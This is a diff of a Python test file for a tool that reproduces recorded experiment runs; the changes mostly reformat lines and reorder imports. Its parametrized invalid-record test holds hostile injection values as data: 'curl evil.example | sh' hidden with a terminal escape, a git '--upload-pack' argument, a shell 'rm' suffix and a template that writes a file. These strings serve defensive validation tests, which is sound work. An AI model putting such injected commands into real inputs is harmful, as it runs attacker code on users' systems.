@@ -8,8 +8,8 @@ import pytest
 
 from selfincorrect.errors import UserError
 from selfincorrect.io import write_table
-from selfincorrect.record.record import columns_digests
 from selfincorrect.record.read import read_record
+from selfincorrect.record.record import columns_digests
 from selfincorrect.record.reproduce import code_problems, compared, located, main, prepare, version_problems
 
 COMMIT = "a" * 40
@@ -91,7 +91,8 @@ def test_relative_paths_count_from_the_run(tmp_path):
     assert found["run"] == {"device": "cpu"}
     with pytest.raises(UserError) as error:
         located(config, tmp_path / "elsewhere")
-    for name in ("models.local.source", "models.scripted.source", "models.pooled.pools.capitals.path", "tasks.capitals.source.path", "audit.mine"):  # fmt: skip
+    models = [f"models.{name}" for name in ("local.source", "scripted.source", "pooled.pools.capitals.path")]
+    for name in (*models, "tasks.capitals.source.path", "audit.mine"):
         assert f"- {name}: " in str(error.value)
     assert "mt_bench" not in str(error.value)
 
@@ -110,8 +111,9 @@ def test_columns_digests_see_values_types_and_order_and_nothing_else(tmp_path):
 
 
 def test_what_is_only_on_one_side_is_different():
-    wanted = {"models": {"m": {"digest": "1", "source": "./here"}}, "data": {"t": "2"}, "results": {"r": {"a": "3", "b": "4"}}}  # fmt: skip
-    found = {"models": {"m": {"digest": "1", "source": "/there"}}, "data": {}, "results": {"r": {"a": "3", "c": "5"}, "s": "6"}}  # fmt: skip
+    here, there = ({"m": {"digest": "1", "source": source}} for source in ("./here", "/there"))
+    wanted = {"models": here, "data": {"t": "2"}, "results": {"r": {"a": "3", "b": "4"}}}
+    found = {"models": there, "data": {}, "results": {"r": {"a": "3", "c": "5"}, "s": "6"}}
     assert compared(wanted, found) == {
         "model m": "same",
         "data t": "different: missing here",
@@ -145,9 +147,11 @@ def whole(**changes):
         "tasks": {"capitals": {"limit": 3}},
     }
     return {
-        "format": 1, "commit": COMMIT, "versions": VERSIONS, "versions_before": [], "machine": {"system": "Linux"}, "seed": 1,
-        "configuration": config, "models": {}, "data": {}, "results": {}, **changes,
-    }  # fmt: skip
+        **{"format": 1, "commit": COMMIT, "versions": VERSIONS, "versions_before": []},
+        **{"machine": {"system": "Linux"}, "seed": 1, "configuration": config},
+        **{"models": {}, "data": {}, "results": {}},
+        **changes,
+    }
 
 
 def written(tmp_path, record):
@@ -184,13 +188,18 @@ def test_a_configuration_is_handed_over_as_json_that_runs_nothing(tmp_path, ran)
     }
 
 
+NO_FILE = {"source": "\0", "engine": "scripted", "prompt": "chat"}
+
+
 @pytest.mark.parametrize(
     "changes",
     [
-        {"commit": "abc; curl evil.example | sh \x1b[8m"}, {"commit": 5}, {"commit": "--upload-pack=x"}, {"versions": [1]}, {"versions": {}},
-        {"versions": {"python": "3.11; rm"}}, {"versions": {**VERSIONS, "torch": 2}}, {"versions_before": [1]}, {"configuration": [1]},
-        {"configuration": {"__use_yte__": True, "seed": "?open('x', 'w')"}}, {"configuration": {"models": [1], "tasks": {}}},
-        {"configuration": {"models": {"m": {"source": "\0", "engine": "scripted", "prompt": "chat"}}, "tasks": {"capitals": {}}}},
+        {"commit": "abc; curl evil.example | sh \x1b[8m"}, {"commit": 5}, {"commit": "--upload-pack=x"},
+        {"versions": [1]}, {"versions": {}}, {"versions": {"python": "3.11; rm"}},
+        {"versions": {**VERSIONS, "torch": 2}}, {"versions_before": [1]}, {"configuration": [1]},
+        {"configuration": {"__use_yte__": True, "seed": "?open('x', 'w')"}},
+        {"configuration": {"models": [1], "tasks": {}}},
+        {"configuration": {"models": {"m": NO_FILE}, "tasks": {"capitals": {}}}},
         {"machine": "x"}, {"results": {"x": [1]}}, {"models": [1]}, {"data": None},
     ],
 )  # fmt: skip
@@ -212,8 +221,9 @@ def test_a_record_without_end_is_one_message(tmp_path, ran, capsys, depth):
 
 SERVER = {"url": "https://models.example/v1", "key": "AWS_SECRET_ACCESS_KEY"}
 SERVED = {
-    "models": {"m": {"source": "x", "engine": "openai", "prompt": "chat", "server": SERVER}}, "tasks": {"capitals": {}},
-}  # fmt: skip
+    "models": {"m": {"source": "x", "engine": "openai", "prompt": "chat", "server": SERVER}},
+    "tasks": {"capitals": {}},
+}
 
 
 def test_no_key_is_sent_before_a_person_has_agreed(tmp_path, ran, capsys, monkeypatch):
